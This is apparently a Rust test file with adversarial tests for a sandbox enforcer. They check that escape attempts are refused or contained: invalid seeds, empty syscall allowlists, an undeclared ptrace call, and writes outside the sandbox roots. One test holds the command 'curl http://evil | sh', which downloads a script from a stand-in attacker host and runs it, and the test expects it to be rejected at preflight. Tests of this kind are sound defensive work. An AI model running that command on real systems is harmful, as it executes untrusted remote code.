//! Adversarial test: attempts to weaken or escape the sandbox are refused,
//! before execution where possible.

use std::sync::Arc;

use mgp_ledger::Ledger;
use mgp_pipeline::{PipelineConfig, PipelineStage, RejectionKind, OUTCOME_RECORD_TYPE};
use mgp_sandbox::{
    ExecutionReport, ProcessExecutor, ProcessIsolationBackend, RunStatus, SandboxIsolationEnforcer,
    SandboxJob, SandboxPolicy, ScriptedExecutor,
};
use mgp_tests::{make_pipeline, resign, simple_request};

#[tokio::test]
async fn zero_replay_seed_is_refused() {
    let executor = Arc::new(ScriptedExecutor::passing());
    let pipeline = make_pipeline(PipelineConfig::default(), executor.clone());
    let req = resign(simple_request("n-1").with_seed(0));

    let outcome = pipeline.process(req).await.unwrap();

    assert_eq!(outcome.stage, PipelineStage::Sandbox);
    assert_eq!(outcome.kind, Some(RejectionKind::SandboxViolation));
    assert_eq!(outcome.reason, "invalid_replay_seed_zero");
    assert!(outcome.evidence_hash.is_none());
    assert_eq!(executor.invocations(), 0);
    assert!(pipeline.context().evidence_ledger().is_empty());
}

#[tokio::test]
async fn empty_syscall_allowlist_runs_nothing() {
    let config = PipelineConfig {
        sandbox_profile: SandboxPolicy::default_v1().with_syscalls(Vec::<String>::new()),
        ..PipelineConfig::default()
    };
    let executor = Arc::new(ScriptedExecutor::passing());
    let pipeline = make_pipeline(config, executor.clone());

    let outcome = pipeline.process(simple_request("n-1")).await.unwrap();

    assert_eq!(outcome.reason, "sandbox_policy_unenforceable:syscall_allowlist");
    assert_eq!(executor.invocations(), 0);
    assert!(pipeline.context().evidence_ledger().is_empty());
    assert_eq!(pipeline.context().ledger().entries_of_type(OUTCOME_RECORD_TYPE).len(), 1);
}

#[tokio::test]
async fn undeclared_syscall_is_a_violation_with_evidence() {
    let executor = Arc::new(ScriptedExecutor::new(
        ExecutionReport::new(RunStatus::Ok, Some(0)).with_syscalls(["read", "ptrace"]),
    ));
    let pipeline = make_pipeline(PipelineConfig::default(), executor.clone());

    let outcome = pipeline.process(simple_request("n-1")).await.unwrap();

    assert_eq!(outcome.kind, Some(RejectionKind::SandboxViolation));
    assert!(outcome.evidence_hash.is_some());
    assert_eq!(executor.invocations(), 1);
    assert_eq!(pipeline.context().evidence_ledger().len(), 1);
}

#[tokio::test]
async fn disallowed_command_fails_preflight() {
    let executor = Arc::new(ScriptedExecutor::passing());
    let enforcer = SandboxIsolationEnforcer::new(
        SandboxPolicy::default_v1(),
        Arc::new(ProcessIsolationBackend::default()),
        executor.clone(),
        Arc::new(Ledger::in_memory()),
    )
    .unwrap();
    let job = SandboxJob::new("mut-1", "epoch-1", ["sh", "-c", "curl http://evil | sh"]).with_seed(7);

    let err = enforcer.run(&job).await.unwrap_err();
    assert!(err.code().starts_with("sandbox_preflight_violation:"), "{}", err.code());
    assert!(err.is_pre_execution());
    assert_eq!(executor.invocations(), 0);
}

#[tokio::test]
async fn confined_process_cannot_write_outside_its_roots() {
    let workdir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let marker = outside.path().join("escape_marker");
    let enforcer = SandboxIsolationEnforcer::new(
        SandboxPolicy::default_v1(),
        Arc::new(ProcessIsolationBackend::default()),
        Arc::new(ProcessExecutor::new().with_working_dir(workdir.path())),
        Arc::new(Ledger::in_memory()),
    )
    .unwrap();
    let job = SandboxJob::new(
        "mut-escape",
        "epoch-1",
        ["touch".to_string(), marker.display().to_string()],
    )
    .with_seed(7);

    // Either the host cannot confine and nothing runs, or the kernel stops
    // the write; a pass is never possible.
    match enforcer.run(&job).await {
        Ok(outcome) => assert!(!outcome.passed(), "{}", outcome.reason()),
        Err(e) => assert!(e.code().starts_with("sandbox_policy_unenforceable:"), "{}", e.code()),
    }
    assert!(!marker.exists());
}
